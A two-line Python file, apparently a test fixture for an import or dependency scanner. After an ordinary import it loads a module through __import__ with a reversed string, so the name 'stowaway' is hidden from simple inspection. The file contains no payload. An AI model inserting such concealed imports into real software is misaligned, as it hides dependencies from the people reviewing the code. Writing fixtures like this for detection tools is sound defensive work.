import declared

__import__("yawawots"[::-1])
